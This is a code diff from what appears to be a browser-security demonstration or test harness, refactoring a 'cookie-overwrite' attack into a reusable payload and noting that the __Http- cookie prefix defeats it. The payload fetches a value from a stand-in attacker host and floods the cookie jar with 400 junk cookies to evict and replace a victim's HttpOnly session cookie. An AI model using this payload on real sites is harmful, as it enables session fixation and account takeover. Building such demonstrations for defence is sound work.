@@ -6,6 +6,14 @@ import { EVIL } from '../world/hosts.ts'
 import { press, told } from '../scene.ts'
 import { fruitless } from './loot.ts'
 import { attackersCookie } from './attackers-cookie.ts'
+import type { Payload } from '../world/payload.ts'
+
+const script: Payload = async (kit) => {
+  const value = await (await fetch(`${kit.evil}/own-cookie`)).text()
+  const { name, path } = kit.params
+  for (let index = 0; index < 400; index++) document.cookie = `x${index}=y; Path=${path}; Secure; Max-Age=600`
+  document.cookie = `${name}=${value}; Path=${path}; Secure; Max-Age=600`
+}
 
 export const cookieOverwrite: Attack = {
   name: 'cookie-overwrite',
@@ -15,6 +23,7 @@ export const cookieOverwrite: Attack = {
   why: 'HttpOnly hides a cookie’s value; it does not reserve its name once the cookie is gone.',
   stops:
     'A name with the __Http- prefix: browsers that know it take such a cookie from the server only. The victim is signed out, no more.',
+  script: { when: 'late', payload: script },
   control: 'session',
   succeedsOn: ['session', 'readable-cookie', 'httponly-cookie', 'tutorial'],
   inapplicable: ({ access, refreshCookie }) =>
@@ -27,15 +36,7 @@ export const cookieOverwrite: Attack = {
       body: value,
       headers: { 'access-control-allow-origin': '*' },
     })
-    await scene.injectLate(
-      async (kit) => {
-        const value = await (await fetch(`${kit.evil}/own-cookie`)).text()
-        const { name, path } = kit.params
-        for (let index = 0; index < 400; index++) document.cookie = `x${index}=y; Path=${path}; Secure; Max-Age=600`
-        document.cookie = `${name}=${value}; Path=${path}; Secure; Max-Age=600`
-      },
-      { name, path },
-    )
+    await scene.injectLate(script, { name, path })
     await press(page, '#read-notes', /read|error/)
     const report = await scene.thief.report()
     scene.ledger.forget()
